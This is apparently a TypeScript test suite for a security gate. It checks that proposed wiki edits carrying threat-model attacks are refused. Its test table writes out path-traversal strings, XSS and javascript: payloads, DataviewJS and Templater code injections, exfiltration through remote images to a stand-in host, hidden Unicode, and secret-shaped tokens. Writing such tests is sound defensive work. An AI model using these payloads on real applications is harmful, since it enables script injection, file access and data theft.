import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { makeGate } from '../../src/gate/decide.js';
import type { Proposal } from '../../src/model/proposal.js';
import { DISPOSITIONS, strictest } from '../../src/model/verdict.js';
import { type ContextChanges, context, gate, page, proposal } from './fixture.js';

const at = (path: string): Partial<Proposal> => ({ path });
const says = (line: string): Partial<Proposal> => ({ text: page(line) });
const FENCE = '```';

/** The attacks of docs/threat-model.md that reach the gate, by their number there, each with something that it must not let pass. */
const ATTACKS: readonly (readonly [number: number, name: string, changes: Partial<Proposal>, around?: ContextChanges])[] = [
	[3, 'a path that climbs', at('wiki/../../secret.md')],
	[3, 'an absolute path', at('/etc/passwd.md')],
	[3, 'a drive', at('C:\\Users\\me.md')],
	[3, 'a share', at('\\\\host\\share.md')],
	[3, 'backslashes', at('wiki\\..\\raw\\a.md')],
	[3, 'an encoded climb', at('wiki/%2e%2e/raw/a.md')],
	[3, 'NUL', at('wiki/a\u0000.md')],
	[3, 'a home', at('~/a.md')],
	[4, 'a reserved name', at('wiki/CON.md')],
	[4, 'a dot at the end', at('wiki/a./b.md')],
	[4, 'a stream', at('wiki/a.md:stream')],
	[4, 'a case twin', at('wiki/concepts/TEA.md'), { occupied: ['wiki/concepts/Tea.md'] }],
	[4, 'a Unicode twin', at('wiki/concepts/Cafe\u0301.md'), { occupied: ['wiki/concepts/Café.md'] }],
	[5, 'the app’s settings', at('.obsidian/app.json')],
	[5, 'a source', at('raw/a.md')],
	[5, 'a policy', at('_commonplace/policies/default.prism.md')],
	[5, 'the ledger', at('_commonplace/ledger/desk/2026-11-22.jsonl')],
	[5, 'another kind of file', at('wiki/a.js')],
	[7, 'a query that runs', says(`${FENCE}dataviewjs\ndv.list()\n${FENCE}`)],
	[7, 'the same in other letters and a longer fence', says(`${FENCE}\`DataviewJS\ndv.list()\n${FENCE}\``)],
	[7, 'the same in a quote', says(`> ~~~dataviewjs\n> dv.list()\n> ~~~`)],
	[7, 'a template', says('<% tp.system.prompt() %>')],
	[7, 'an inline query', says('`$= dv.current()`')],
	[8, 'a script', says('<script>alert(1)</script>')],
	[8, 'a frame', says('<iframe src="https://x.example"></iframe>')],
	[8, 'a handler', says('<img src=x onerror=alert(1)>')],
	[9, 'a script address', says('[a](javascript:alert(1))')],
	[9, 'one that is encoded', says('[a](java&#115;cript:alert(1))')],
	[9, 'one by reference', says('[a][b]\n\n[b]: javascript:alert(1)')],
	[9, 'an address of the app', says('[a](obsidian://open?vault=x)')],
	[9, 'a file', says('[a](file:///etc/passwd)')],
	[10, 'a remote image', says('![](https://x.example/?q=secret)')],
	[10, 'a remote image by reference', says('![a][b]\n\n[b]: https://x.example/?q=secret')],
	[10, 'a link that no source has', says('[a](https://x.example/?q=secret)')],
	[11, 'hidden letters', says('It counters\u200b\u200c forgetting.[^k1]')],
	[11, 'text that runs backwards', says('It counters \u202eforgetting.[^k1]')],
	[11, 'tag characters', says('It counters\u{e0041} forgetting.[^k1]')],
	[12, 'a class of the app', { text: page().replace('type: concept', 'type: concept\ncssclasses: [hide]') }],
	[12, 'publishing', { text: page().replace('type: concept', 'type: concept\npublish: true') }],
	[12, 'a key twice', { text: page().replace('type: concept', 'type: concept\ntype: source') }],
	[12, 'an anchor', { text: page().replace('aliases: [SRS]', 'aliases: &a [*a]') }],
	[14, 'an emptied page', { kind: 'update', text: '' }, { current: page() }],
	[14, 'a page taken away', { kind: 'retire', text: null }, { current: page() }],
	[15, 'a quote that stands in no source', { text: page().replace('“Spaced repetition is reviewing', '“Spaced repetition is never reviewing') }],
	[18, 'a key', says('The key is sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCdEfGhIjKlMnOp.[^k1]')],
	[18, 'a token', says('The token is ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789.[^k1]')],
	[22, 'a bomb', { text: 'x'.repeat(30_000_000) }],
];

describe('an attack', () => {
	it.each(ATTACKS.map(([number, name, changes, around = {}]) => ({ number, name, changes, around })))('$number: $name', ({ changes, around }) => {
		const { disposition, rules } = gate.decide(proposal(changes), context(around));
		expect(disposition).not.toBe('PASS');
		expect(rules.filter((rule) => rule.disposition === disposition).some(({ rule }) => rule.startsWith('constitution:')), JSON.stringify(rules).slice(0, 400)).toBe(true);
	});
});

it('the verdict does not depend on the order of rules', () => {
	fc.assert(
		fc.property(fc.array(fc.constantFrom(...DISPOSITIONS), { maxLength: 6 }).chain((some) => fc.tuple(fc.constant(some), fc.shuffledSubarray([...some.keys()], { minLength: some.length }))), ([some, order]) => {
			const policies = some.map((disposition, index) => ({ hash: `${index}`, evaluate: () => [{ rule: `test:${index}`, disposition, reason: 'x', line: null }] }));
			const one = makeGate(policies).decide(proposal(), context());
			const other = makeGate(order.flatMap((index) => policies[index] ?? [])).decide(proposal(), context());
			expect(other.disposition).toBe(one.disposition);
			expect(one.disposition).toBe(strictest(some));
			expect(other.rules.map(({ rule }) => rule).sort()).toEqual(one.rules.map(({ rule }) => rule).sort());
		}),
	);
});
